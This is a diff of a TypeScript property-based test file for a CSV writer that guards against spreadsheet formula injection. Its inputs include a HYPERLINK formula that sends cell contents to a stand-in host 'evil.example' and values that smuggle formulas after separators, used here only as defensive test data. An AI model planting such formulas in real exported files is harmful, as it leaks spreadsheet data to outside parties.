@@ -1,6 +1,6 @@
 import * as fc from 'fast-check'
-import { expect, it } from 'vitest'
-import { csvText } from './csv-cell.ts'
+import { describe, expect, it } from 'vitest'
+import { csvText, spreadsheetText } from './csv-cell.ts'
 
 /** The first cell of a line of CSV, read as RFC 4180 says. */
 function readCell(csv: string): string {
@@ -14,34 +14,95 @@ function readCell(csv: string): string {
   throw new Error('the quotes are not closed')
 }
 
+const FORMULA = /^[=+\-@\t\r\n\0＝＋－＠]/
+
 const text = fc.oneof(
   fc.string({ unit: 'grapheme' }),
   fc.stringMatching(/^[=+@,;"'\r\n\t-]{0,6}[a-z]?$/),
+  fc.stringMatching(/^[a-z1 ]{0,3}[,;\t\r\n]["']{0,2}[=+@-]?[a-z]?$/),
   fc.constantFrom('=HYPERLINK("http://evil.example?"&A1,"x")', '@SUM(1)', '-2+3', '\0=1', '＝1+1'),
+  fc.constantFrom('Ada;=1+1', 'Ada,+1', 'Ada\t@SUM(1)', 'Ada;"=1+1', 'Ada\n-1'),
 )
 
-it('a cell is read as the text it was, but for the apostrophe before a formula', () => {
-  fc.assert(
-    fc.property(text, (value) => {
-      const read = readCell(`${csvText(value)},next`)
-      expect(read.startsWith("'") && !value.startsWith("'") ? read.slice(1) : read).toBe(value)
-    }),
-  )
+describe.each([
+  ['a cell', csvText],
+  ['a cell for spreadsheets', spreadsheetText],
+])('%s', (_, write) => {
+  it('is read as the text it was, but for apostrophes before formulas', () => {
+    fc.assert(
+      fc.property(text, (value) => {
+        const read = readCell(`${write(value)},next`)
+        const plain = /^="(.*)"$/s.exec(read)?.[1]?.replaceAll('""', '"') ?? read
+        const isPlain = !FORMULA.test(value.replace(/^"+/, '')) && !/[,;\t\r\n]/.test(value)
+        expect(isPlain ? plain : value).toBe(value)
+        expect(plain.replaceAll("'", '')).toBe(value.replaceAll("'", ''))
+      }),
+    )
+  })
+
+  it('S-145: begins no formula of the text, at whichever separator it is split', () => {
+    fc.assert(
+      fc.property(text, (value) => {
+        const cell = write(value)
+        const parts = [',', ';', '\t', '\r', '\n'].flatMap((separator) => {
+          const [first = '', ...others] = cell.split(separator)
+          // The result of our own formula is a text.
+          return /^(?:=|"=")"/.test(first) ? others : [first, ...others]
+        })
+        expect(parts.filter((part) => FORMULA.test(part.replace(/^"+/, '')))).toEqual([])
+      }),
+    )
+  })
+
+  it('is one cell of one line, whichever separator', () => {
+    fc.assert(
+      fc.property(text, (value) => {
+        const cell = write(value)
+        expect(/^"(?:[^"]|"")*"$/.test(cell) || !/[",;\r\n]/.test(cell)).toBe(true)
+      }),
+    )
+  })
 })
 
-it('no cell begins with what a spreadsheet calculates', () => {
-  fc.assert(
-    fc.property(text, (value) => {
-      expect(readCell(`${csvText(value)},next`)).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/)
-    }),
-  )
+it.each([
+  ['Ada;=1+1', `"Ada;'=1+1"`],
+  ['Ada\t@SUM(1)', `"Ada\t'@SUM(1)"`],
+  ['Ada, -1', '"Ada, -1"'],
+])('S-145: %j is written as %j', (value, cell) => {
+  expect(csvText(value)).toBe(cell)
 })
 
-it('a cell is one cell of one line, whichever separator', () => {
-  fc.assert(
-    fc.property(text, (value) => {
-      const cell = csvText(value)
-      expect(/^"(?:[^"]|"")*"$/.test(cell) || !/[",;\r\n]/.test(cell)).toBe(true)
-    }),
-  )
+it.each([
+  '000123',
+  '0005',
+  '01234567890',
+  '12345678901234567890',
+  '1E5',
+  '12e-3',
+  '1,5',
+  '1.000',
+  '3/4',
+  '3-4',
+  '10:30',
+  '10:30 PM',
+  '2026-11-27',
+  '27 nov. 2026',
+  'MARCH1',
+  'SEPT2',
+  'mar/26',
+  'R$ 5,00',
+  '5%',
+  '(5)',
+  '٣',
+  'TRUE',
+  'falso',
+])('F-7: %s stays a text in a spreadsheet', (value) => {
+  expect(readCell(spreadsheetText(value))).toBe(`="${value}"`)
 })
+
+it.each(['Ada', 'Rua do Ouvidor, nº 12', 'ada1@example.com.br', '', 'a"b'])(
+  '%j is written as it is',
+  (value) => {
+    expect(readCell(spreadsheetText(value))).toBe(value)
+  },
+)
